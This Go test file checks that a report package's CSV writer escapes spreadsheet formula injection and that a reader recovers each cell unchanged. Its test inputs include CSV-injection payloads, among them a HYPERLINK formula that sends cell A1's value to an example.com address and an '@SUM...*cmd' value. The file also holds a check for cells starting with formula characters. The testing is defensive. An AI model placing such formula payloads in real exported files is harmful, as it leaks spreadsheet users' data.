package report

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/seed-56ee9438/cohort/result"
	"github.com/seed-56ee9438/cohort/source"
)

// No cell of segments.csv is run by a spreadsheet, and package source reads every
// one as it was.
func TestCSVIsSafe(t *testing.T) {
	t.Parallel()
	s := &result.Segmentation{Segments: []result.Profile{{ID: 1, Name: "@home, -fast"}}}
	texts := []string{`=HYPERLINK("https://example.com/?x="&A1,"open")`, "@SUM(1+1)*cmd", "+1 for this", "-5", "'=x", "＝1", "plain"}
	for i, text := range texts {
		s.Users = append(s.Users, result.User{ID: text + "u", Segment: 1 - 2*(i%2), Margin: -0.25, Mixture: []float64{1}, Deciding: []result.Deciding{{Text: text}}})
	}
	path := filepath.Join(t.TempDir(), "segments.csv")
	var b strings.Builder
	if err := WriteCSV(&b, s); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(b.String()), 0o600); err != nil {
		t.Fatal(err)
	}
	src, err := source.Open(t.Context(), path, source.Options{TextColumn: "deciding_text"})
	if err != nil {
		t.Fatal(err)
	}
	defer src.Close()
	i := 0
	for r, err := range src.Rows(context.Background()) {
		if err != nil {
			t.Fatal(err)
		}
		if r.Text != texts[i] || r.User != texts[i]+"u" || r.Field("margin") != "-0.25" {
			t.Errorf("row %d: %+v", i, r)
		}
		i++
	}
	for line := range strings.Lines(b.String()) {
		for _, cell := range strings.Split(line, ",") {
			if cell = strings.Trim(cell, "\"\n"); strings.IndexAny(cell, "=+@＝") == 0 {
				t.Errorf("a cell is run: %s", cell)
			}
		}
	}
	if i != len(texts) {
		t.Errorf("%d rows of %d", i, len(texts))
	}
}
